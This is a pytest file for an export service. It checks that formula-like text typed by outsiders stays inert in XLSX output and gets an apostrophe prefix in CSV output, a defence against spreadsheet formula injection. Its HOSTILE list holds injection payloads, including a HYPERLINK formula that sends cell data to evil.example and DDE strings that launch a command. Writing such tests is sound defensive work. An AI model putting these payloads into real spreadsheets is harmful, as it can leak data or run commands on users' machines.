"""Exports (services/exports.py): what outsiders typed stays text in the spreadsheet (CWE-1236), and
no character they can type breaks an XLSX export."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from app.services.exports import table_bytes

COLUMNS = [("text", "Text"), ("n", "N")]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _xlsx(rows):
    return load_workbook(io.BytesIO(table_bytes("t", COLUMNS, rows, "xlsx"))).active


def _csv(rows):
    return list(csv.reader(io.StringIO(table_bytes("t", COLUMNS, rows, "csv").decode("utf-8-sig"))))


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_keeps_formula_like_text_as_text(text):
    cell = _xlsx([{"text": text, "n": 1}])["A2"]
    assert (cell.value, cell.data_type) == (text, "s")


def test_xlsx_keeps_numbers_and_plain_text_as_they_are():
    sheet = _xlsx([{"text": "张三 申请", "n": -5}, {"text": "", "n": 0.25}, {"text": None, "n": True}])
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [["张三 申请", -5], [None, 0.25],
                                                                            [None, True]]
    assert sheet["B2"].data_type == "n"


def test_xlsx_writes_control_characters_visibly_instead_of_failing():
    sheet = _xlsx([{"text": "bad\x01char\x1f, tab\tand\nline", "n": 1}])
    assert sheet["A2"].value == "bad\\x01char\\x1f, tab\tand\nline"


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_marks_formula_like_text_with_an_apostrophe(text):
    header, row = _csv([{"text": text, "n": 1}])
    assert header == ["Text", "N"]
    assert row == ["'" + text, "1"]


def test_csv_leaves_numbers_and_plain_text_alone():
    rows = _csv([{"text": "窗口 A-1", "n": -5}, {"text": "a=b", "n": 1.5}])
    assert rows[1:] == [["窗口 A-1", "-5"], ["a=b", "1.5"]]
